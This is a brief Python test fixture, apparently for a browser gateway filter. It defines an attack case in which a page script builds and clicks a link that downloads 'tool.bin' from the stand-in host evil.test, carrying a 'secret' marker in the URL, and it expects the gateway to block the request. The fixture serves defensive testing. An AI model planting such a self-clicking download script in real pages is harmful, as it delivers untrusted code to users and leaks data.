"""A script of a permitted page starts a download by a click on a link that it made itself.

A program for later, and the address says who asks.

Not covered: downloads from permitted sites, and whether what was downloaded may be run (the group
`commands`).
"""

ATTACK = {
    "title": "Download from an unlisted site",
    "group": "browser",
    "layer": "gateway",
    "risk": "supply-chain",
    "references": ["ATT&CK T1105", "CWE-494"],
    "arrives": [{"what": "request", "name": "evil.test", "path": "/bytes/*"}],
    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
    "page": "<h1>Update</h1><script>const link = document.createElement('a'); link.download = "
    "'tool.bin'; link.href = 'http://evil.test/bytes/2000?for=secret'; "
    "document.body.append(link); link.click()</script>",
}
